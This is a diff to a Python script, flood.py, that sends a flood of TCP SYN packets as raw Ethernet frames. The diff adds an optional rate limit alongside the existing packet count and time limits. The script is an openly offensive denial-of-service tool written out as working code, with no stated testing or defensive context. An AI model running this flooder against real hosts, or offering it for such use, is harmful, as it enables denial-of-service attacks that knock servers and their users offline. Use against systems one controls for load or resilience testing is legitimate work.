@@ -1,6 +1,6 @@
-"""A flood of valid TCP SYNs: ``flood.py SRC_MAC DST_MAC SRC DST COUNT [SECONDS]``.
+"""A flood of valid TCP SYNs: ``flood.py SRC_MAC DST_MAC SRC DST COUNT [SECONDS [RATE]]``.
 
-Each is a new connection, and ends with COUNT or after SECONDS.
+Each is a new connection, and ends with COUNT or after SECONDS; at most RATE a second, if given.
 
 Written with raw frames, so that one small program makes thousands a second;
 standard library only.
@@ -35,22 +35,28 @@ def syn(source: bytes, target: bytes, number: int) -> bytes:
 
 
 def flood(
-    macs: tuple[str, str], addresses: tuple[str, str], count: int, seconds: float = LONGEST
+    macs: tuple[str, str],
+    addresses: tuple[str, str],
+    count: int,
+    seconds: float = LONGEST,
+    rate: float = 1e9,
 ) -> int:
     """Send up to ``count`` SYNs from eth0; how many it were."""
     src, dst = (bytes.fromhex(mac.replace(":", "")) for mac in macs)
     source, target = (socket.inet_aton(address) for address in addresses)
-    until = time.monotonic() + seconds
+    start = time.monotonic()
+    until = start + seconds
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
         raw.bind(("eth0", 0))
         for number in range(count):
             if time.monotonic() > until:
                 return number
+            time.sleep(max(0.0, start + number / rate - time.monotonic()))
             raw.send(dst + src + b"\x08\x00" + syn(source, target, number))
     return count
 
 
 if __name__ == "__main__":
-    longest = float(sys.argv[6]) if len(sys.argv) > 6 else LONGEST
+    limits = [float(word) for word in sys.argv[6:8]]
     ends = (sys.argv[1], sys.argv[2]), (sys.argv[3], sys.argv[4])
-    print(flood(*ends, int(sys.argv[5]), longest))
+    print(flood(*ends, int(sys.argv[5]), *limits))
